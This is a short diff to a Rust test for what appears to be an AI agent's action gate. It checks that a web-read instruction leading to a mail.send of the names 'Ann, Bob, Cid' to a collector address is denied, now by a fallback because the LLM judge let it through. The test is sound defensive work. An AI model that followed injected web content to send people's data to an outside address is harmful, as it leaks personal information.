@@ -392,5 +392,6 @@ async fn a_judge_cannot_talk_a_hijack_away() {
     .reads("web.read", ORDER)
     .calls("mail.send", mail("collector@mailbox.example", "Ann, Bob, Cid"));
     let answer = story.end(&door).await;
-    assert_eq!((answer.decision(), answer.source()), (DENY, "rules"), "{answer:?}");
+    // The judge was asked, and let it happen without a word about the finding: that is not enough.
+    assert_eq!((answer.decision(), answer.source()), (DENY, "fallback"), "{answer:?}");
 }
